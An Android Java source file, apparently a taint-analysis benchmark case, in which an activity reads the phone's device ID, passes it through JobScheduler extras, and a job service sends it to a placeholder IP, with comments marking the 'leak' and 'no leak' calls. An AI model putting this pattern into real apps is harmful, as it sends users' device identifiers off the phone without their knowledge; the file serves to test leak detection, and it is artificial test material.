package habits;

import android.app.Activity;
import android.app.job.JobInfo;
import android.app.job.JobParameters;
import android.app.job.JobScheduler;
import android.app.job.JobService;
import android.content.ComponentName;
import android.content.Context;
import android.os.Bundle;
import android.os.PersistableBundle;
import android.telephony.TelephonyManager;
import java.net.URL;

/** Work that Android starts, with what it was given. */
public class Jobs extends JobService {
    public static class Start extends Activity {
        @Override
        protected void onCreate(Bundle state) {
            TelephonyManager phone = (TelephonyManager) getSystemService(Context.TELEPHONY_SERVICE);
            PersistableBundle extras = new PersistableBundle();
            extras.putString("id", phone.getDeviceId());
            extras.putString("v", "1");
            JobInfo job = new JobInfo.Builder(1, new ComponentName(this, Jobs.class)).setExtras(extras).build();
            ((JobScheduler) getSystemService(Context.JOB_SCHEDULER_SERVICE)).schedule(job);
        }
    }

    @Override
    public boolean onStartJob(JobParameters given) {
        try {
            new URL("http://203.0.113.3/1/" + given.getExtras().getString("id")).openStream(); // leak
            new URL("http://203.0.113.3/2/" + given.getExtras().getString("v")).openStream(); // no leak
        } catch (Exception ignored) {
        }
        return false;
    }

    @Override
    public boolean onStopJob(JobParameters given) {
        return false;
    }
}
